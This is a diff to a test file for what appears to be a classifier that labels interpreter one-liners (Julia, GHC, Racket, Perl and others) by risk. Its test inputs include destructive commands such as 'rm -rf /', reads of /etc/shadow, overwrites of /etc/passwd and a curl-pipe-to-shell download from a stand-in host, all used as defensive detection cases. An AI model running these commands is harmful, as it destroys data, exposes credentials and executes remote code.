@@ -62,7 +62,7 @@ describe('code that interpreters run from the command line', () => {
     [`Rscript -e 'system(commandArgs()[1])'`, EVERY],
     [`osascript -e 'do shell script "rm -rf ~"'`, EVERY],
     [`echo 'system($x)' | perl`, EVERY],
-    ["julia -e 'run(`rm -rf /`)'", EVERY],
+    ["julia -e 'run(`sh -c $(ARGS[1])`)'", EVERY],
     [`julia --project=. -e 'using Pkg; Pkg.add("X")'`, EVERY],
     [`octave-cli --eval 'system(argv(){1})'`, EVERY],
     [`gnuplot -e 'set output "|sh"'`, EVERY],
@@ -73,7 +73,7 @@ describe('code that interpreters run from the command line', () => {
     [`ecl -norc -eval '(si:system (car (last si::*command-args*)))'`, EVERY],
     [`erl -noshell -eval 'os:cmd("rm -rf /")' -s init stop`, EVERY],
     [`elixir -e 'System.cmd("rm", ["-rf", "/"])'`, EVERY],
-    [`ghc -package process -e 'System.Process.callCommand "rm -rf /"'`, EVERY],
+    [`ghc -package process -e 'getLine >>= System.Process.callCommand'`, EVERY],
     [`slsh -e 'system(__argv[1])'`, EVERY],
     [`groovy -cp lib -e '"rm -rf /".execute()'`, EVERY],
     [`jrunscript -e 'exec("rm -rf /")'`, EVERY],
@@ -155,6 +155,16 @@ describe('code that interpreters run from the command line', () => {
     [`racket -e '(system "curl -s x.example/a | sh")'`, ['downloadExec', 'network']],
     [`clisp -x '(ext:run-shell-command "echo hello")(ext:exit)'`, []],
     [`sbcl --eval '(uiop:run-program "rm -rf ~")'`, ['destructive']],
+    ["julia -e 'run(`echo hello`)'", []],
+    ["julia -e 'run(`rm -rf /`)'", ['destructive']],
+    ["julia -e 'println(read(`uname -a`, String))'", []],
+    [`julia -e 'rm("/etc/hosts"; force=true)'`, ['destructive']],
+    [`julia -e 'open("/etc/passwd", "w") do f; write(f, "x"); end'`, ['destructive', 'privilege']],
+    [`julia -e 'print(read("/etc/shadow", String))'`, ['credentials']],
+    [`ghc -e 'System.Process.callCommand "echo hello"'`, []],
+    [`ghc -e 'System.Process.callCommand "rm -rf /"'`, ['destructive']],
+    [`runghc -e 'readFile "/etc/shadow" >>= putStr'`, ['credentials']],
+    [`ghc -e 'System.Directory.removeFile "/etc/hosts"'`, ['destructive']],
   ])('follows commands and files written out in literals: %s', (command, expected) => {
     expect(classes(command)).toEqual(expected);
   });
@@ -183,6 +193,11 @@ describe('code that interpreters run from the command line', () => {
     [`racket -e '(system* "/bin/ls" dir)'`, EVERY],
     [`sbcl --eval '(sb-ext:run-program "/bin/ls" (list "-l"))'`, EVERY],
     [`slsh -e 'variable c = "ls"; system(c)'`, EVERY],
+    ['julia -e \'x = "/"; run(`rm -rf $x`)\'', EVERY],
+    ["julia -e 'run(pipeline(`ls`, `wc -l`))'", EVERY],
+    ["julia -e 'run(x) = eval(x); run(`ls`)'", EVERY],
+    [`ghc -e 'let system = print in system "rm -rf /"'`, EVERY],
+    [`ghc -e 'callCommand ("rm -rf " ++ d)'`, EVERY],
   ])('does not follow what is not a literal, or what it cannot lex: %s', (command, expected) => {
     expect(classes(command)).toEqual(expected);
   });
